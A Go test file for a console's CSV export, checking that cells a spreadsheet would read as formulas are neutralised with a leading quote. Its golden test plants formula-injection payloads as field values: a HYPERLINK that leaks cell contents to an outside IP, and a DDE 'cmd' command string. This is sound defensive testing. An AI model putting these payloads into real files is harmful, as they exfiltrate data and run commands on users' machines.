package console

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/cairn-audit/cairn/internal/goldenfile"
)

// TestConsoleCSVCell covers the neutralisation of cells a spreadsheet
// would read as a formula.
func TestConsoleCSVCell(t *testing.T) {
	for _, tc := range []struct {
		in, want string
	}{
		{"", ""},
		{"alice", "alice"},
		{"arn:aws:s3:::b/k=1", "arn:aws:s3:::b/k=1"},
		{"a -b", "a -b"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@SUM(1)", "'@SUM(1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"\t", "'\t"},
		{"\n=HYPERLINK(\"http://x\")", "'\n=HYPERLINK(\"http://x\")"},
		{"\r\n=1", "'\r\n=1"},
		{" =1+1", "' =1+1"},
		{"   +1", "'   +1"},
		{"\u00a0@SUM(1)", "'\u00a0@SUM(1)"},
		{"\u3000=1", "'\u3000=1"},         // ideographic space
		{"\u2007-1", "'\u2007-1"},         // figure space
		{"\u200b=1", "'\u200b=1"},         // zero-width space
		{"\ufeff=1", "'\ufeff=1"},         // byte order mark
		{"\v\f=1", "'\v\f=1"},             // vertical tab, form feed
		{"\u0085@x", "'\u0085@x"},         // next line
		{"\u2028+x", "'\u2028+x"},         // line separator
		{"\uff1d1+1", "'\uff1d1+1"},       // full-width =
		{"\uff0b1", "'\uff0b1"},           // full-width +
		{"\uff0d1", "'\uff0d1"},           // full-width -
		{"\uff20SUM(1)", "'\uff20SUM(1)"}, // full-width @
		{" \uff1d1", "' \uff1d1"},
		{"\u22121", "'\u22121"}, // minus sign
		{"\ufe661", "'\ufe661"}, // small =
		{" ", " "},
		{" a=1", " a=1"},
		{"\u00a0x", "\u00a0x"},
		{"\n", "\n"},
	} {
		if got := cell(tc.in); got != tc.want {
			t.Errorf("cell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestConsoleCSVGolden pins the CSV download's format: header, columns,
// quoting and neutralised cells.
func TestConsoleCSVGolden(t *testing.T) {
	e := newEnv(t)
	e.api.events = makeEvents(e.now, 4)
	e.api.events[0].Username = "\n=HYPERLINK(\"http://198.51.100.7/?leak=\"&A1,\"open\")"
	e.api.events[1].EventName = " =1+1"
	e.api.events[2].EventSource = "\u00a0@SUM(1)"
	e.api.events[3].AccessKeyId = "\uff1dcmd|' /C calc'!A0"
	sc, _ := e.login(adminKey, adminSecret)
	w := e.get("/console/events.csv?range=24h", sc)
	if w.Code != 200 {
		t.Fatalf("CSV: %d\n%s", w.Code, w.Body)
	}
	body := w.Body.Bytes()
	goldenfile.Check(t, "events.csv", body)
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows[1:] {
		for i, v := range r {
			if needsQuote(v) && v[0] != '\'' {
				t.Errorf("column %d cell %q is not neutralised", i, v)
			}
		}
	}
}
